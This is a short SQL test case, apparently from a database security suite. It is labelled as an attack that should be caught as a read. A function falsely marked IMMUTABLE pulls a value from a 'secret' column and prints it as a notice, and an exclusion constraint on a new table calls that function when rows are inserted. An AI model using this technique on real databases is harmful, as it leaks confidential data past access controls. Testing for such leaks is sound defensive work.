-- Has an exclusion constraint compare rows by an expression that reads.
-- wants: read
-- setup:
CREATE FUNCTION peep(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
  BEGIN RAISE NOTICE '%', (SELECT max(secret) FROM public.vlt_account); RETURN $1; END $$;
-- attack:
CREATE TABLE apart (n int, EXCLUDE USING btree (peep(n) WITH =));
INSERT INTO apart VALUES (1), (2);
